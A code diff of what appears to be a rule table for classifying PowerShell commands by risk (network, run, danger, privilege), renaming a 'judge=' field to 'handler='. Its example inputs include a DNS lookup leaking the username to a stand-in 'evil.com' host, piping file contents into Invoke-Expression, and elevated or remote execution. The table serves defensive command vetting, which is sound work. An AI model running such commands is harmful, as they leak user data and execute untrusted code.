@@ -35,7 +35,7 @@ Test-Connection,Test-NetConnection,Resolve-DnsName,Test-WSMan,Test-ComputerSecur
   Get-AzResourceGroup,Get-MgUser,Get-MgGroup | network,read any | ComputerName,CN,TargetName:N Name:N Server:N |
   ComputerName =* | | Test-Connection example.com ;; Test-Connection "$env:USERNAME.evil.com" ;; Resolve-DnsName
   example.com ;; Find-Module x
-Invoke-WebRequest,Invoke-RestMethod | network judge=web | Uri:N Method:METHOD CustomMethod,CM:METHOD OutFile:W
+Invoke-WebRequest,Invoke-RestMethod | network handler=web | Uri:N Method:METHOD CustomMethod,CM:METHOD OutFile:W
   InFile:SEND Body:BODY Form:BODY Headers:= ContentType:= UserAgent:= UseBasicParsing SessionVariable,SV:VNAME
   WebSession:= Credential:= UseDefaultCredentials>secret Certificate:= CertificateThumbprint:=
   SkipCertificateCheck>danger Proxy:=>danger,network ProxyCredential:= ProxyUseDefaultCredentials NoProxy
@@ -49,8 +49,8 @@ Start-BitsTransfer,Send-MailMessage,Add-BitsFile,Save-Module,Save-Script,Save-Pa
   New-WebServiceProxy,Publish-Module,Publish-Script,Publish-PSResource,Send-MgUserMail |
   danger,network,run,write,privilege any | Source:N Destination:W Path:U Attachments:SEND | =* | | Start-BitsTransfer
   http://x a.exe ;; Send-MailMessage -To a
-Invoke-Expression | read judge=expression | Command:= | Command | | iex $x ;; gc x|iex ;; iex 'rm f'
-Invoke-Command | read judge=invoke | ScriptBlock,Command:= ComputerName,Cn:C Session:C FilePath,PSPath:X
+Invoke-Expression | read handler=expression | Command:= | Command | | iex $x ;; gc x|iex ;; iex 'rm f'
+Invoke-Command | read handler=invoke | ScriptBlock,Command:= ComputerName,Cn:C Session:C FilePath,PSPath:X
   ArgumentList,Args:= AsJob Credential:= HostName:C UserName:= VMName:C VMId:C ContainerId:C NoNewScope ThrottleLimit:=
   InputObject:= JobName:= HideComputerName,HCN ConnectionUri,URI:C KeyFilePath:= Port:= UseSSL | ScriptBlock
   ArgumentList | | Invoke-Command { rm f } ;; icm -ComputerName h { ls } ;; icm h { ls }
@@ -58,9 +58,9 @@ Start-Job,Start-ThreadJob | ask,run | ScriptBlock,Command:= Name:= FilePath:X Li
   ArgumentList,Args:= InputObject:= RunAs32 PSVersion:= WorkingDirectory:= Credential:= Authentication:=
   DefinitionName:X Type:= ThrottleLimit:= StreamingHost:= | ScriptBlock InitializationScript | | Start-Job { rm f } ;;
   sajb { ls }
-Measure-Command | read judge=invoke | Expression:= InputObject:= | Expression | Measure-Command { ls } | Measure-Command
-  { rm f }
-Start-Process | danger,run,network,privilege,write,delete judge=start-process whatif | FilePath,PSPath,Path:X
+Measure-Command | read handler=invoke | Expression:= InputObject:= | Expression | Measure-Command { ls } |
+  Measure-Command { rm f }
+Start-Process | danger,run,network,privilege,write,delete handler=start-process whatif | FilePath,PSPath,Path:X
   ArgumentList,Args:= Credential:= WorkingDirectory:= LoadUserProfile,Lup NoNewWindow,nnw PassThru
   RedirectStandardError,RSE:W RedirectStandardInput,RSI:R RedirectStandardOutput,RSO:W Verb:= WindowStyle:= Wait
   UseNewEnvironment Environment:= | FilePath ArgumentList | | saps calc ;; Start-Process cmd -Verb RunAs
